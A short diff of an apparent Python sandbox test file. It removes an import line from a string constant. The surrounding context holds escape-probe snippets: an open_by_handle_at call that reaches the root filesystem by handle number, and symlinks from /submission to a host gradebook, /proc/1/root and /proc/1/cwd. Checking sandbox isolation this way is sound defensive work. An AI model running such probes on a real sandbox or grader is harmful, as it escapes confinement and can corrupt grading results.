@@ -44,7 +44,6 @@ name_to_handle_at, open_by_handle_at = {"x86_64": (303, 304), "aarch64": (264, 2
 attempt("the root by its number", call, open_by_handle_at, -100, handle, os.O_RDONLY)
 """
 THROUGH_LINKS_OF_ITS_OWN = """
-import tarfile
 os.chdir("/submission")
 for number, target in enumerate((HOST["gradebook"], HOST["folder"], "/proc/1/root", "/proc/1/cwd")):
     os.symlink(target, f"way-{number}")
